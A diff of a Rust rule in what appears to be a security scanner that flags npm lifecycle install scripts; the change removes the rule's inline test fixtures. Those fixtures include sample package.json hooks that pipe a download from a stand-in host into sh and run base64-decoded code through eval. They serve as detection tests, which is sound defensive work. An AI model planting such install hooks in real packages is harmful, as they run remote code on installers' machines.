@@ -7,10 +7,11 @@ use regex::bytes::Regex;
 use super::SETTINGS;
 use super::as_shown;
 use super::deed::deed;
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::scan::compiled;
 use crate::text::json::{Node, in_unit};
 use crate::text::unit::Unit;
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "LIFECYCLE_SCRIPT",
@@ -20,7 +21,7 @@ pub(super) const RULE: Rule = Rule {
     why: "Installing runs it at once, before anybody has looked at anything.",
     fix: "install with --ignore-scripts, and do by hand what is really needed",
     places: SETTINGS,
-    anchors: &[
+    anchors: words![
         "\"preinstall\"",
         "\"postinstall\"",
         "\"install\"",
@@ -30,33 +31,6 @@ pub(super) const RULE: Rule = Rule {
         "\"prepublish\"",
     ],
     check: Check::Unit(hits),
-    hits: &[
-        file(
-            "package.json",
-            r#"{"name":"a","scripts":{"postinstall":"curl -s https://get.example/x.sh | sh"}}"#,
-        ),
-        file(
-            "package.json",
-            r#"{"name":"a","scripts":{"preinstall":"node -e \"eval(Buffer.from('YQ==','base64')+'')\""}}"#,
-        ),
-        file("package.json", r#"{"name":"a","scripts":{"install":"npm install --global other-tool"}}"#),
-        file("package.json", r#"{"name":"a","scripts":{"postinstall":"npm i other-tool@latest"}}"#),
-    ],
-    misses: &[
-        file(
-            "package.json",
-            r#"{"name":"a","scripts":{"postinstall":"npx playwright install chromium","prepare":"husky"}}"#,
-        ),
-        file(
-            "package.json",
-            r#"{"name":"a","scripts":{"postinstall":"node scripts/build.js && patch-package"}}"#,
-        ),
-        file(
-            "package.json",
-            r#"{"name":"a","scripts":{"postinstall":"cd client && npm install","fetch":"curl -s https://api.example/x"}}"#,
-        ),
-        file("SKILL.md", "```json\n{\"scripts\":{\"postinstall\":\"curl https://x.example | sh\"}}\n```\n"),
-    ],
 };
 
 const SCRIPTS: &[&str] =
